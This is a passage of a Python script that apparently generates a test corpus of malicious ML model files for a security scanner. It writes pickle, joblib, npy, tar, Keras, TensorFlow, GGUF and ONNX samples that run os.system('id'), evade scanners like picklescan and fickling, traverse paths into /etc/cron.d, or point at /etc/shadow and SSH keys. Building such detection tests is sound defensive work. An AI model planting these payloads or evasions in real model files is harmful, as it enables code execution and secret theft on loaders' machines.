    from tensorboard.compat.proto import function_pb2, meta_graph_pb2

    m = meta_graph_pb2.MetaGraphDef()
    m.meta_info_def.tags.append("serve")
    m.graph_def.node.extend(node_defs(nodes))
    m.graph_def.versions.producer = 1882
    for fname, fnodes in (functions or {}).items():
        f = function_pb2.FunctionDef()
        f.signature.name = fname
        f.node_def.extend(node_defs(fnodes))
        m.graph_def.library.function.append(f)
    return m


def saved_model_bytes(nodes, functions=None) -> bytes:
    mg = meta_graph(nodes, functions).SerializeToString()
    return b"\x08\x01" + b"\x12" + varint(len(mg)) + mg


def saved_model_text(nodes, functions=None) -> bytes:
    from google.protobuf import text_format

    inner = text_format.MessageToString(meta_graph(nodes, functions))
    indented = "".join("  " + line + "\n" for line in inner.splitlines())
    return f"saved_model_schema_version: 1\nmeta_graphs {{\n{indented}}}\n".encode()


def varint(n: int) -> bytes:
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


# ======================================================================================================
# malicious
# ======================================================================================================

PAYLOAD = call("os", "system", "id", protocol=2)


def write_malicious_pickles():
    # class 3: pickles found by content, whatever the name, size or end
    p0 = call("os", "system", "id", protocol=0)
    for name in ["model.sav", "model.p", "weights.model", "config.json", "data", "notes.txt", "blob.dat", "model.bin", "tokenizer.json"]:
        write("malicious", f"content/{name}", p0 + b"\n# trailing junk the loader never reads\x00\x01", "pickle-content", f"DANGEROUS: os.system — protocol-0 pickle with trailing junk named {name}")
    write("malicious", "content/truncated-p0.txt", p0[:-1], "pickle-content", "DANGEROUS: os.system — protocol-0 payload cut after REDUCE (no STOP); pickle.load has already called it")
    write("malicious", "content/truncated-p2.pkl", PAYLOAD[:-1], "pickle-content", "DANGEROUS: os.system — protocol-2 payload truncated after REDUCE")
    write("malicious", "content/truncated-mid.model", PAYLOAD[:-1] + b"X\xff\xff\x00", "pickle-content", "DANGEROUS: os.system — payload then a string length running past the end")
    write("malicious", "content/p4-named.json", call("subprocess", "check_output", "id", protocol=4, stack=True), "pickle-content", "DANGEROUS: subprocess.check_output — protocol 4 named .json")
    write("malicious", "content/p0-noext", call("posix", "system", "id", protocol=0), "pickle-content", "DANGEROUS: posix.system — protocol 0, no extension")
    write("malicious", "content/inst-p0.sav", b"(S'id'\nios\nsystem\n.", "pickle-content", "DANGEROUS: os.system — INST opcode, no GLOBAL/REDUCE")
    write("malicious", "content/gif-polyglot.gif", b"GIF89a\x01\x00\x01" + pa.body(p0) + b".", "pickle-content", "DANGEROUS: os.system — GIF header read as BINFLOAT, then the payload")
    write("malicious", "content/two-streams.p", pickle.dumps([1, 2], protocol=2) + PAYLOAD, "pickle-content", "DANGEROUS: os.system — second pickle after a benign one")
    write("malicious", "content/after-benign-text.txt", b"N." + p0, "pickle-content", "DANGEROUS: os.system — a one-opcode pickle, then the payload stream (a loop of pickle.load calls reads both)")
    # 2026 advisories and peer deny-list gaps
    adv = [
        ("codeop", "compile_command", "import os"),
        ("code", "interact", "x"),
        ("compileall", "compile_dir", "/tmp"),
        ("py_compile", "compile", "/tmp/x.py"),
        ("runpy", "run_path", "/tmp/x.py"),
        ("runpy", "_run_module_as_main", "x"),
        ("profile", "run", "import os"),
        ("cProfile", "run", "import os"),
        ("pdb", "run", "import os"),
        ("ensurepip", "_run_pip", "install"),
        ("importlib", "import_module", "os"),
        ("marshal", "loads", "x"),
        ("ctypes", "CDLL", "libc.so.6"),
        ("multiprocessing.util", "spawnv_passfds", "/bin/sh"),
        ("timeit", "timeit", "import os"),
        ("doctest", "debug_script", "import os"),
        ("trace", "Trace", "x"),
        ("idlelib.pyshell", "ModifiedInterpreter", "x"),
        ("pip._internal.cli.main", "main", "install"),
        ("venv", "create", "/tmp/v"),
        ("webbrowser", "open", "http://127.0.0.1/"),
        ("antigravity", "geohash", "x"),
        ("pydoc", "pipepager", "id"),
        ("shutil", "rmtree", "/tmp/x"),
        ("asyncio.subprocess", "create_subprocess_shell", "id"),
    ]
    for mod, fn, arg in adv:
        for proto, stack in [(2, False), (4, True)]:
            write("malicious", f"advisories/{mod}.{fn}.p{proto}.pkl", call(mod, fn, arg, protocol=proto, stack=stack), "advisory", f"DANGEROUS: {mod}.{fn}")
    # pkgutil.resolve_name("os:system")("id") (picklescan CVE-2026-3490)
    resolve = pa.proto(2) + pa.glob("pkgutil", "resolve_name") + pa.MARK + pa.ustr("os:system") + pa.TUPLE + pa.REDUCE + pa.MARK + pa.ustr("id") + pa.TUPLE + pa.REDUCE + pa.STOP
    write("malicious", "advisories/pkgutil-resolve-name.pkl", resolve, "advisory", "DANGEROUS: pkgutil.resolve_name — resolves os:system, then the result is called")
    resolve4 = pa.proto(4) + pa.stack_global("pkgutil", "resolve_name") + pa.ustr("os:system") + pa.TUPLE1 + pa.REDUCE + pa.ustr("id") + pa.TUPLE1 + pa.REDUCE + pa.STOP
    write("malicious", "advisories/pkgutil-resolve-name.p4.bin", resolve4, "advisory", "DANGEROUS: pkgutil.resolve_name — protocol 4")
    # fickling evasions: OBJ call whose result is popped; BUILD with a __setstate__ payload after a safe call
    obj_pop = pa.MARK + pa.glob("os", "system") + pa.text0("id") + pa.OBJ + pa.POP + pa.NONE + pa.STOP
    write("malicious", "evasions/obj-then-pop.pkl", obj_pop, "evasion", "DANGEROUS: os.system — OBJ call whose result is popped (fickling treats it as unused)")
    obj_pop4 = pa.proto(4) + pa.MARK + pa.stack_global("subprocess", "getoutput") + pa.ustr("id") + pa.OBJ + pa.POP + pa.EMPTY_DICT + pa.STOP
    write("malicious", "evasions/obj-then-pop.p4.pkl", obj_pop4, "evasion", "DANGEROUS: subprocess.getoutput — OBJ + POP, protocol 4")
    for safe_mod, safe_name, tag in [("collections", "OrderedDict", "ordereddict"), ("sklearn.linear_model._logistic", "LogisticRegression", "sklearn")]:
        create = pa.glob(safe_mod, safe_name) + pa.EMPTY_TUPLE + (pa.REDUCE if tag == "ordereddict" else pa.NEWOBJ)
        for target in [("os", "system"), ("builtins", "exec")]:
            setstate = pa.EMPTY_DICT + pa.ustr("__setstate__") + pa.glob(*target) + pa.SETITEM + pa.BUILD + pa.ustr("id") + pa.BUILD
            write("malicious", f"evasions/setstate-{tag}-{target[1]}.pkl", pa.proto(2) + create + setstate + pa.STOP, "evasion", f"DANGEROUS: {target[0]}.{target[1]} — BUILD stores __setstate__ on a {safe_name}, the next BUILD calls it")
    # __setstate__ set to an allowlisted callable: only the dunder state gives it away
    harmless_target = pa.EMPTY_DICT + pa.ustr("__setstate__") + pa.glob("collections", "OrderedDict") + pa.SETITEM + pa.BUILD + pa.ustr("x") + pa.BUILD
    write("malicious", "evasions/setstate-allowlisted-callable.pkl", pa.proto(2) + pa.glob("collections", "OrderedDict") + pa.EMPTY_TUPLE + pa.REDUCE + harmless_target + pa.STOP, "evasion", "DANGEROUS: BUILD state sets __setstate__ (only allowlisted names imported)")
    # allowlisted names outside their shapes
    sk_reduce = pa.proto(2) + pa.glob("sklearn.pipeline", "Pipeline") + pa.MARK + pa.EMPTY_LIST + pa.TUPLE + pa.REDUCE + pa.STOP
    write("malicious", "shapes/sklearn-class-reduced.pkl", sk_reduce, "shape", "FLAGGED: sklearn.pipeline.Pipeline called by REDUCE with arguments (its pickles only use NEWOBJ + BUILD)")
    rc = pa.proto(2) + pa.glob("numpy.core.multiarray", "_reconstruct") + pa.glob("collections", "OrderedDict") + pa.MARK + pa.bint(0) + pa.TUPLE + pa.ustr("b") + pa.TUPLE3 + pa.REDUCE + pa.STOP
    write("malicious", "shapes/reconstruct-wrong-class.pkl", rc, "shape", "FLAGGED: numpy _reconstruct of a class that is not an ndarray")
    recon = pa.glob("copy_reg", "_reconstructor") + pa.MARK + pa.glob("numpy", "dtype") + pa.glob("__builtin__", "object") + pa.NONE + pa.TUPLE + pa.REDUCE + pa.STOP
    write("malicious", "shapes/reconstructor-non-instantiable.pkl", recon, "shape", "FLAGGED: copyreg._reconstructor of numpy.dtype (never pickled that way)")
    rft = pa.proto(2) + pa.glob("torch._tensor", "_rebuild_from_type_v2") + pa.MARK + pa.glob("sklearn.pipeline", "Pipeline") + pa.glob("torch", "Tensor") + pa.MARK + pa.EMPTY_LIST + pa.TUPLE + pa.EMPTY_DICT + pa.TUPLE + pa.REDUCE + pa.STOP
    write("malicious", "shapes/rebuild-from-type-calls-class.pkl", rft, "shape", "FLAGGED: torch _rebuild_from_type_v2 made to call a non-rebuild function")
    unknown = pa.proto(2) + pa.glob("mycompany.transformers", "ClipOutliers") + pa.EMPTY_TUPLE + pa.NEWOBJ + pa.EMPTY_DICT + pa.BUILD + pa.STOP
    write("malicious", "shapes/unknown-class.pkl", unknown, "shape", "FLAGGED: mycompany.transformers.ClipOutliers — not on the allowlist (allowed only by configuration)")
    memmap = pa.proto(2) + pa.glob("numpy", "memmap") + pa.MARK + pa.ustr("/etc/passwd") + pa.TUPLE + pa.REDUCE + pa.STOP
    write("malicious", "shapes/numpy-memmap-call.pkl", memmap, "shape", "FLAGGED: numpy.memmap called with a path (allowlisted only as a value)")
    # dotted and mapped names
    write("malicious", "names/dotted-builtins.p4.pkl", pa.proto(4) + pa.stack_global("builtins", "getattr") + pa.STOP, "names", "DANGEROUS: builtins.getattr")
    write("malicious", "names/py2-builtin.p0.pkl", call("__builtin__", "eval", "1", protocol=0), "names", "DANGEROUS: builtins.eval — Python 2 name mapped below protocol 3")
    write("malicious", "names/torch-load.pkl", call("torch.serialization", "load", "other.pt", protocol=2), "names", "DANGEROUS: torch.serialization.load")
    write("malicious", "names/ext-code.pkl", pa.proto(2) + b"\x82\x01" + pa.MARK + pa.ustr("id") + pa.TUPLE + pa.REDUCE + pa.STOP, "names", "DANGEROUS: EXT1 extension code")
    write("malicious", "names/int-base0.pkl", pa.proto(2) + b"I0x10\n0" + pa.body(PAYLOAD) + pa.STOP, "names", "DANGEROUS: os.system — after INT text in base 0")


def write_malicious_joblib():
    import joblib

    cases = {
        "object-array": {"x": np.array([Payload("os.system", "id"), 1], dtype=object)},
        "structured-V16-object-field": {"x": np.array([(1, Payload("os.system", "id"))], dtype=[("a", "<i8"), ("b", "O")])},
        "subarray-object": {"x": np.array([((Payload("os.system", "id"), 2),)], dtype=[("a", "O", (2,))])},
        "after-array": {"w": np.zeros(16, dtype=np.float64), "hook": Payload("os.system", "id")},
        "in-estimator-attr": {"model": Payload("subprocess.Popen", "id")},
    }
    for name, obj in cases.items():
        buf = io.BytesIO()
        joblib.dump(obj, buf)
        write("malicious", f"joblib/{name}.joblib", buf.getvalue(), "joblib", "DANGEROUS: posix.system or subprocess.Popen — inside a joblib file")
        write("malicious", f"joblib/{name}.pkl", buf.getvalue(), "joblib", "DANGEROUS: posix.system or subprocess.Popen — joblib file under a .pkl name")


def npy_with_header(header: str, payload: bytes, version=(1, 0)) -> bytes:
    h = header.encode("latin1" if version < (3, 0) else "utf8")
    pre = 10 if version == (1, 0) else 12
    pad = (64 - (pre + len(h) + 1) % 64) % 64
    h = h + b" " * pad + b"\n"
    length = struct.pack("<H", len(h)) if version == (1, 0) else struct.pack("<I", len(h))
    return b"\x93NUMPY" + bytes(version) + length + h + payload


def write_malicious_npy():
    payload = call("os", "system", "id", protocol=3)
    headers = {
        "descr-object-word": "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
        "descr-O8": "{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }",
        "descr-hex-escape": "{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }",
        "descr-octal-escape": "{'descr': '\\117', 'fortran_order': False, 'shape': (1,), }",
        "descr-concatenated": "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }",
        "descr-duplicate-key": "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}",
        "descr-structured-object-field": "{'descr': [('a', '<i8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }",
        "descr-subarray-object": "{'descr': ('|O', (2,)), 'fortran_order': False, 'shape': (1,), }",
        "descr-comma-string": "{'descr': 'i4,O', 'fortran_order': False, 'shape': (1,), }",
        "descr-comment": "{'descr': # '<f8'\n '|O', 'fortran_order': False, 'shape': (1,), }",
        "descr-parenthesised": "{'descr': ('|O'), 'fortran_order': False, 'shape': (1,), }",
        "shape-long-suffix": "{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }",
        "descr-double-quoted": '{"descr": "|O", "fortran_order": False, "shape": (1,), }',
    }
    for name, h in headers.items():
        write("malicious", f"npy/{name}.npy", npy_with_header(h, payload), "npy", f"DANGEROUS: os.system — .npy object array, header {name}")
    write("malicious", "npy/version2-object.npy", npy_with_header("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", payload, (2, 0)), "npy", "DANGEROUS: os.system — .npy format 2.0 object array")
    write("malicious", "npy/version3-object.npy", npy_with_header("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", payload, (3, 0)), "npy", "DANGEROUS: os.system — .npy format 3.0 object array")
    inner = npy_with_header("{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }", payload)
    write("malicious", "npy/object-member.npz", zip_bytes([("a.npy", np.lib.format.header_data_from_array_1_0 and inner)]), "npy", "DANGEROUS: os.system — .npz whose member hides an object dtype in an escape")
    write("malicious", "npy/object-noext", npy_with_header("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", payload), "npy", "DANGEROUS: os.system — .npy without extension")


def write_malicious_compressed():
    import joblib
    import lz4.frame

    for comp in ["zlib", "gzip", "bz2", "lzma", "xz", "lz4"]:
        buf = io.BytesIO()
        joblib.dump({"w": np.ones(4), "hook": Payload("os.system", "id")}, buf, compress=(comp, 3))
        write("malicious", f"compressed/payload.{comp}.joblib", buf.getvalue(), "compression", f"DANGEROUS: posix.system — joblib compress={comp}")
    raw = {
        "payload.pkl.lzma": lzma.compress(PAYLOAD, format=lzma.FORMAT_ALONE),
        "payload.pkl.xz": lzma.compress(PAYLOAD, format=lzma.FORMAT_XZ),
        "payload.pkl.bz2": bz2.compress(PAYLOAD),
        "payload.pkl.lz4": lz4.frame.compress(PAYLOAD),
        "payload-lz4-nocontentsize": lz4.frame.compress(PAYLOAD, content_checksum=True, block_linked=False),
        "payload.xz-crc32": lzma.compress(PAYLOAD, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC32),
        "payload.gz": gzip.compress(PAYLOAD, mtime=0),
        "payload.zlib": zlib.compress(PAYLOAD),
        "payload-multistream.bz2": bz2.compress(b"") + bz2.compress(PAYLOAD),
    }
    for name, data in raw.items():
        write("malicious", f"compressed/{name}", data, "compression", f"DANGEROUS: os.system — {name}")
    write("malicious", "compressed/model.tar.xz", lzma.compress(tar_bytes([("model/data.pkl", PAYLOAD, tarfile.REGTYPE)])), "compression", "DANGEROUS: os.system — pickle in a .tar.xz")
    write("malicious", "compressed/model.tar.bz2", bz2.compress(tar_bytes([("model/data.pkl", PAYLOAD, tarfile.REGTYPE)])), "compression", "DANGEROUS: os.system — pickle in a .tar.bz2")
    write("malicious", "compressed/bzip2-member.zip", zip_bytes([("data.pkl", PAYLOAD)], zipfile.ZIP_BZIP2), "compression", "DANGEROUS: os.system — zip member compressed with bzip2 (method 12)")
    write("malicious", "compressed/lzma-member.zip", zip_bytes([("data.pkl", PAYLOAD)], zipfile.ZIP_LZMA), "compression", "DANGEROUS: os.system — zip member compressed with LZMA (method 14)")


def raw_tar_header(name: bytes, size: int, typ: bytes, data_size_field: int | None = None, prefix: bytes = b"") -> bytes:
    h = bytearray(512)
    h[0 : len(name)] = name[:100]
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = (b"%011o\0" % (size if data_size_field is None else data_size_field))
    h[136:148] = b"00000000000\0"
    h[156:157] = typ
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[345 : 345 + len(prefix)] = prefix
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def pad512(b: bytes) -> bytes:
    return b + b"\0" * ((512 - len(b) % 512) % 512)


def pax(records: dict[str, str]) -> bytes:
    out = b""
    for k, v in records.items():
        body = f" {k}={v}\n".encode()
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n = len(str(n)) + len(body)
        out += str(n).encode() + body
    return out


def write_malicious_tar():
    for typ in [b"Z", b"A", b"8", b"V", b"M", b"N", b"D"]:
        t = tar_bytes([("model/readme.txt", b"hello\n", tarfile.REGTYPE), (f"model/data-{typ.decode()}.pkl", PAYLOAD, typ)])
        write("malicious", f"tar/member-type-{typ.decode()}.tar", t, "tar", f"DANGEROUS: os.system — member of type {typ.decode()!r} (GNU tar and Python extract it as a file)")
    # a directory entry with data: Python reads the next header from inside that data
    hidden = raw_tar_header(b"model/evil.pkl", len(PAYLOAD), b"0") + pad512(PAYLOAD)
    t = raw_tar_header(b"model/", len(hidden), b"5") + hidden + b"\0" * 1024
    write("malicious", "tar/dir-with-data.tar", t, "tar", "FLAGGED or REJECT: os.system — directory entry carrying data that hides a member")
    # pax size overrides the header size
    p = pax({"size": str(len(PAYLOAD)), "path": "model/data.pkl"})
    t = raw_tar_header(b"././@PaxHeader", len(p), b"x") + pad512(p) + raw_tar_header(b"model/x", len(PAYLOAD), b"0", data_size_field=0) + pad512(PAYLOAD) + b"\0" * 1024
    write("malicious", "tar/pax-size-override.tar", t, "tar", "FLAGGED or REJECT: os.system — pax size record overrides a zero header size")
    t = tar_bytes([("a" * 150 + "/data.pkl", PAYLOAD, tarfile.REGTYPE)], fmt=tarfile.GNU_FORMAT)
    write("malicious", "tar/gnu-longname.tar", t, "tar", "DANGEROUS: os.system — member with a GNU long name")
    t = tar_bytes([("model/data.pkl", PAYLOAD, tarfile.CONTTYPE)])
    write("malicious", "tar/contiguous.tar", t, "tar", "DANGEROUS: os.system — contiguous-file member (type 7)")
    # first member's name is itself a pickle: pickle.load on the tar runs it
    write("malicious", "tar/name-is-pickle.tar", raw_tar_header(pa.body(call("os", "system", "id", protocol=0)) + b".", 4, b"0") + pad512(b"data") + b"\0" * 1024, "tar", "DANGEROUS: os.system — tar whose first member name is a protocol-0 pickle")
    sd, _ = torch_state_dict()
    evil = torch_zip(sd, data_pkl=PAYLOAD)
    write("malicious", "tar/last-member-evil-torch.tar", tar_bytes([("m/config.json", b"{}", tarfile.REGTYPE), ("m/model.pt", evil, tarfile.REGTYPE)]), "tar", "DANGEROUS: os.system — tar whose last member is a malicious torch checkpoint")
    v7 = bytearray(tar_bytes([("data.pkl", PAYLOAD, tarfile.REGTYPE)], fmt=tarfile.USTAR_FORMAT))
    v7[257:265] = b"\0" * 8
    v7[148:156] = b" " * 8
    v7[148:156] = b"%06o\0 " % sum(v7[0:512])
    write("malicious", "tar/v7-no-magic.tar", bytes(v7), "tar", "DANGEROUS: os.system — pre-POSIX tar without the ustar magic (tarfile and GNU tar read it)")
    write("malicious", "tar/traversal.tar", tar_bytes([("../../etc/cron.d/x", b"* * * * * id\n", tarfile.REGTYPE)]), "tar", "DANGEROUS: member path leaves the extraction directory")
    write("malicious", "tar/model.tgz", gzip.compress(tar_bytes([("m/data-Z.pkl", PAYLOAD, b"Z")]), mtime=0), "tar", "DANGEROUS: os.system — type Z member in a .tgz")


def keras_layer_config(extra_layer: dict) -> dict:
    cfg = keras_config()
    cfg["config"]["layers"].append(extra_layer)
    return cfg


def write_malicious_keras():
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps(compile("lambda x: x", "<l>", "eval"))).decode()
    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}}, "registered_name": None}
    write("malicious", "keras/lambda.keras", keras_archive(keras_layer_config(lam)), "keras", "DANGEROUS: Lambda layer (marshalled bytecode)")
    write("malicious", "keras/lambda-config-only.keras", keras_archive(keras_layer_config(lam), only_config=True), "keras", "DANGEROUS: Lambda layer — in a .keras holding only its config")
    variants = {
        "module-os-system": {"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": None},
        "module-builtins-exec": {"module": "builtins", "class_name": "exec", "config": {"source": "import os"}, "registered_name": None},
        "activation-function-os": {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d9", "units": 1, "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}, "registered_name": None},
        "keras-utils-get-file": {"module": "keras.utils", "class_name": "get_file", "config": {"fname": "/tmp/x", "origin": "http://127.0.0.1/x"}, "registered_name": None},
        "enable-unsafe": {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None},
        "subprocess-registered": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}, "registered_name": "Popen"},
        "custom-package-layer": {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {"name": "b"}, "registered_name": "evil_pkg>Backdoor"},
        "lambda-class-name-only": {"class_name": "Lambda", "config": {"name": "l", "function": "lambda x: __import__('os').system('id')"}},
    }
    for name, layer in variants.items():
        write("malicious", f"keras/{name}.keras", keras_archive(keras_layer_config(layer)), "keras", f"FLAGGED: Keras config names {layer.get('module', 'keras')}.{layer['class_name']}")
    write("malicious", "keras/module-os-config-only.keras", keras_archive(keras_layer_config(variants["module-os-system"]), only_config=True), "keras", "FLAGGED: os.system module reference, config.json alone")

    def add_lambda(text: str, escape: bool, nan: bool) -> str:
        cfg = json.loads(text)
        layers = cfg["config"]["layers"]
        layers.append({"class_name": "Lambda", "config": {"name": "lam", "function": "lambda x: x", "output_shape": None}})
        out = json.dumps(cfg)
        if escape:
            out = out.replace('"Lambda"', '"\\u004cambda"')
        if nan:
            out = out.replace('"output_shape": null', '"output_shape": null, "scale": NaN, "bound": -Infinity')
        return out

    for esc, nan in [(False, True), (True, True), (True, False)]:
        tag = ("escaped" if esc else "plain") + ("-nan" if nan else "")
        write("malicious", f"keras/h5-lambda-{tag}.h5", keras_h5(lambda t, e=esc, n=nan: add_lambda(t, e, n)), "keras", f"DANGEROUS: Lambda layer in an HDF5 model_config ({tag})", stable=False)
    write("malicious", "keras/h5-module-os.h5", keras_h5(lambda t: json.dumps(keras_layer_config(variants["module-os-system"])).replace("}", ', "x": NaN}', 1)), "keras", "FLAGGED: os.system module reference in an HDF5 model_config with NaN", stable=False)


def node_bytes(name: str, ops: list[str]) -> bytes:
    b = b"\x0a" + varint(len(name)) + name.encode()
    for op in ops:
        b += b"\x12" + varint(len(op)) + op.encode()
    return b


def keras_metadata(layers: list[dict]) -> bytes:
    """keras_metadata.pb of a TF SavedModel: SavedMetadata{repeated SavedObject nodes = 1}, each with its layer config as JSON."""
    out = b""
    for i, layer in enumerate(layers):
        meta = json.dumps(layer).encode()
        path = f"root.layer-{i}".encode()
        node = b"\x10" + varint(i + 1) + b"\x1a" + varint(len(path)) + path + b"\x22\x0f_tf_keras_layer" + b"\x2a" + varint(len(meta)) + meta
        out += b"\x0a" + varint(len(node)) + node
    return out


def write_malicious_tf():
    dense = {"class_name": "Dense", "name": "d", "config": {"name": "d", "units": 2, "activation": "relu"}}
    lam = {"class_name": "Lambda", "name": "l", "config": {"name": "l", "function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"}}
    write("malicious", "tf/keras-metadata/keras_metadata.pb", keras_metadata([dense, lam]), "keras", "DANGEROUS: Lambda layer — in the keras_metadata.pb of a SavedModel")
    write("malicious", "tf/pyfunc/saved_model.pb", saved_model_bytes([("x", "Placeholder"), ("f", "PyFunc")]), "tf", "DANGEROUS: PyFunc op in a SavedModel")
    write("malicious", "tf/eager-pyfunc-in-function/saved_model.pb", saved_model_bytes([("x", "Placeholder"), ("call", "StatefulPartitionedCall")], {"fn": [("p", "EagerPyFunc")]}), "tf", "DANGEROUS: EagerPyFunc inside a function of the library")
    # op field repeated: protobuf keeps the last
    node = node_bytes("f", ["Const", "PyFuncStateless"])
    graph = b"\x0a" + varint(len(node)) + node
    write("malicious", "tf/op-last-wins.pb", graph, "tf", "DANGEROUS: NodeDef with op twice; protobuf keeps the last (PyFuncStateless)")
    mg = b"\x12" + varint(len(graph)) + graph
    write("malicious", "tf/op-last-wins/saved_model.pb", b"\x08\x01\x12" + varint(len(mg)) + mg, "tf", "DANGEROUS: SavedModel whose node repeats op; the last is PyFuncStateless")
    # an unknown group field before the node: parsers skip it
    group = b"\xfb\x06" + b"\x08\x01" + b"\xfc\x06"  # field 111, start group ... end group
    node = node_bytes("f", ["PyFunc"])
    write("malicious", "tf/unknown-group.pb", group + b"\x0a" + varint(len(node)) + node, "tf", "DANGEROUS: PyFunc node after an unknown group field")
    inner_node = group + node
    write("malicious", "tf/group-inside-node.pb", b"\x0a" + varint(len(inner_node)) + inner_node, "tf", "DANGEROUS: PyFunc node that starts with an unknown group field")
    write("malicious", "tf/pyfunc/saved_model.pbtxt", saved_model_text([("x", "Placeholder"), ("f", "PyFunc")]), "tf", "DANGEROUS: PyFunc op — in a text-format SavedModel")
    text = saved_model_text([("x", "Placeholder"), ("f", "Const")]).decode()
    write("malicious", "tf/pbtxt-octal/saved_model.pbtxt", text.replace('op: "Const"', 'op: "Py\\106unc"').encode(), "tf", "DANGEROUS: PyFunc spelled with an octal escape in text format")
    write("malicious", "tf/pbtxt-last-wins/saved_model.pbtxt", text.replace('op: "Const"', 'op: "Const"\n      op: "EagerPyFunc"').encode(), "tf", "DANGEROUS: op given twice in text format; the last is EagerPyFunc")
    write("malicious", "tf/pbtxt-concat/saved_model.pbtxt", text.replace('op: "Const"', "op: 'Py' \"Func\"").encode(), "tf", "DANGEROUS: op written as adjacent string literals")
    write("malicious", "tf/graph-no-extension", graph_def_bytes([("x", "Placeholder"), ("f", "PyFunc")]), "tf", "DANGEROUS: GraphDef with PyFunc, no extension (content decides)")
    write("malicious", "tf/graph-named.bin", graph_def_bytes([("x", "Placeholder"), ("f", "EagerPyFunc")]), "tf", "DANGEROUS: GraphDef with EagerPyFunc named .bin")
    write("malicious", "tf/write-file.pb", graph_def_bytes([("x", "Placeholder"), ("w", "WriteFile")]), "tf", "FLAGGED: WriteFile op")


def write_malicious_gguf():
    for name, tpl in MALICIOUS_TEMPLATES.items():
        write("malicious", f"gguf/{name}.gguf", gguf_bytes({"tokenizer.chat_template": tpl}), "gguf", f"DANGEROUS: chat template reaches Python internals ({name})")
    write("malicious", "gguf/tool-use-key.gguf", gguf_bytes({"tokenizer.chat_template": BENIGN_TEMPLATES["chatml"], "tokenizer.chat_template.tool_use": MALICIOUS_TEMPLATES["concat-tilde"]}), "gguf", "DANGEROUS: SSTI in tokenizer.chat_template.tool_use")
    write("malicious", "gguf/noext-template", gguf_bytes({"tokenizer.chat_template": MALICIOUS_TEMPLATES["join-list"]}), "gguf", "DANGEROUS: SSTI template in a GGUF without extension")
    cfg = {"bos_token": "<s>", "chat_template": MALICIOUS_TEMPLATES["set-split"]}
    write("malicious", "gguf/tokenizer_config.json", json.dumps(cfg).encode(), "gguf", "DANGEROUS: SSTI chat template — in tokenizer_config.json")


def write_malicious_routing():
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.ones((2, 2), dtype=np.float32), "w")
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [w])
    model = helper.make_model(graph, producer_name="corpus", opset_imports=[helper.make_opsetid("", 17)])
    for loc, fname in [("../../etc/passwd", "model.bin"), ("/etc/shadow", "onnx-model"), ("a/../../../root/.ssh/id_rsa", "model.pb"), ("../secrets.bin", "model.onnx")]:
        m = onnx.ModelProto()
        m.CopyFrom(model)
        t = m.graph.initializer[0]
        t.ClearField("raw_data")
        t.data_location = TensorProto.EXTERNAL
        t.external_data.add(key="location", value=loc)
        write("malicious", f"routing/{fname}", m.SerializeToString(), "onnx", f"DANGEROUS: ONNX external data — {loc} (content decides the format)")
    write("malicious", "routing/tf-graph.onnx", graph_def_bytes([("f", "PyFunc")]), "tf", "DANGEROUS: a TensorFlow graph with PyFunc named .onnx")
    write("malicious", "routing/pickle.safetensors", PAYLOAD, "pickle-content", "DANGEROUS: os.system — a pickle named .safetensors")
    write("malicious", "routing/pickle.gguf", call("os", "system", "id", protocol=0), "pickle-content", "DANGEROUS: os.system — protocol-0 pickle named .gguf")
    write("malicious", "routing/hdf5-userblock.h5", h5_with_userblock(call("os", "system", "id", protocol=0)), "pickle-content", "DANGEROUS: os.system — pickle in the HDF5 user block (h5py reads the file, pickle.load runs the payload)", stable=False)


def h5_with_userblock(prefix: bytes) -> bytes:
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "m.h5")
        with h5py.File(p, "w", userblock_size=512) as f:
            f.create_dataset("w", data=np.ones(4))
        with open(p, "r+b") as f:
            f.write(prefix)
        with open(p, "rb") as f:
            return f.read()


def write_malicious_boosters():
    import joblib
    import lightgbm
    from sklearn.datasets import make_classification

    X, y = make_classification(n_samples=60, n_features=4, random_state=0)
    lg = lightgbm.LGBMClassifier(n_estimators=2, num_leaves=4, random_state=0, verbose=-1, n_jobs=1).fit(X, y)
    buf = io.BytesIO()
    joblib.dump(lg, buf)
    data = buf.getvalue()
    # same length, so the pickle stays well-formed and only the tree is wrong: a child index past the tree
    import re

    m = re.search(rb"left_child=(\S+)", data)
    bad = data[: m.start(1)] + b"9" * len(m.group(1)) + data[m.end(1) :]
    write("malicious", "boosters/lightgbm-bad-tree.joblib", bad, "sklearn", "FLAGGED: LightGBM model string with an out-of-range child index (fed to the native parser)", stable=False)


# ======================================================================================================
# invalid: must be refused, never called clean
# ======================================================================================================


def write_invalid():
    from safetensors.numpy import save

    st = save({"w": np.ones((4, 4), dtype=np.float32)})
